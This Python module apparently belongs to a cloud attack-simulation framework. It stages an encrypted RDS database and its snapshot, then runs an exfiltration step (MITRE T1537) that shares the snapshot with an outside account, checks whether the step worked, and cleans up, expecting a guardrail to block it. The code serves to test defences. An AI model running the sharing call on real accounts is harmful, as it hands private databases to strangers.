"""Share a database's snapshot with a foreign account."""

from bastide.attack import scenery
from bastide.attack.stage import Stage
from bastide.attack.technique import Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="A database snapshot is shared with a stranger",
    mitre=("T1537",),
    tactic="exfiltration",
    detectors=("IAM Access Analyzer: external access to an RDS snapshot", "Security Hub RDS.1"),
    expected=Prevented("snapshot-image-public-share"),
    source='Amazon RDS User Guide, "Sharing a DB snapshot for Amazon RDS"',
)


def prepare(stage: Stage) -> Scene:
    """A database under a key of the account's own, and a snapshot of it."""
    network, key = scenery.network(stage), scenery.key(stage)
    group = scenery.subnet_group(stage, network.subnet)
    name = scenery.database(stage, group, KmsKeyId=key, VpcSecurityGroupIds=[scenery.default_group(stage, network)])
    rds = stage.owner().client("rds")
    rds.create_db_snapshot(DBInstanceIdentifier=name, DBSnapshotIdentifier=f"{name}-daily")
    return {"network": network, "key": key, "group": group, "database": name, "snapshot": f"{name}-daily"}


def attack(stage: Stage, scene: Scene) -> None:
    """Share it."""
    stage.attacker().client("rds").modify_db_snapshot_attribute(
        DBSnapshotIdentifier=scene["snapshot"], AttributeName="restore", ValuesToAdd=[stage.outsider]
    )


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The stranger may restore it."""
    found = stage.owner().client("rds").describe_db_snapshot_attributes(DBSnapshotIdentifier=scene["snapshot"])
    rows = found["DBSnapshotAttributesResult"]["DBSnapshotAttributes"]
    return any(one["AttributeName"] == "restore" and stage.outsider in one["AttributeValues"] for one in rows)


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete snapshot, database and key."""
    rds = stage.owner().client("rds")
    rds.delete_db_snapshot(DBSnapshotIdentifier=scene["snapshot"])
    rds.delete_db_instance(DBInstanceIdentifier=scene["database"], SkipFinalSnapshot=True)
    rds.delete_db_subnet_group(DBSubnetGroupName=scene["group"])
    scenery.drop_key(stage, scene["key"])
    scenery.drop_network(stage, scene["network"])
